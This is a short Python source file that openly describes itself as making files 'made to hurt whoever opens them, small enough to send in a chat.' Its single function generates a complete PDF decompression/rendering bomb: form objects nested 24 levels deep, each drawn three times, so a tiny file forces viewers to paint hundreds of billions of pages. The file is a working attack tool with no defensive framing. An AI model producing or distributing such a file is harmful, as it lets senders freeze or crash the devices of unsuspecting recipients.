"""Files made to hurt whoever opens them, small enough to send in a chat."""

from __future__ import annotations


def nested_forms_pdf(depth: int = 24, fan: int = 3) -> bytes:
    """A one-page PDF whose page draws form 1, which draws form 2 `fan` times, which … `depth`
    levels down: fan**depth filled pages to paint (3**24, some 280 billion) from 6 KB of PDF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /XObject << /F %d 0 R >> >> >>" % (4 + depth),
        b"<< /Length 5 >>\nstream\n/F Do\nendstream",
    ]
    for level in range(depth):  # object 5 + level; each draws the one before it
        if level == 0:
            body, resources = b"0 0 m 595 842 l 0 842 l h f", b""
        else:
            body = b" ".join(b"q 1 0 0 1 %d 0 cm /X Do Q" % k for k in range(fan))
            resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (4 + level)
        objects.append(b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] %s /Length %d >>\nstream\n%s\nendstream"
                       % (resources, len(body), body))
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)
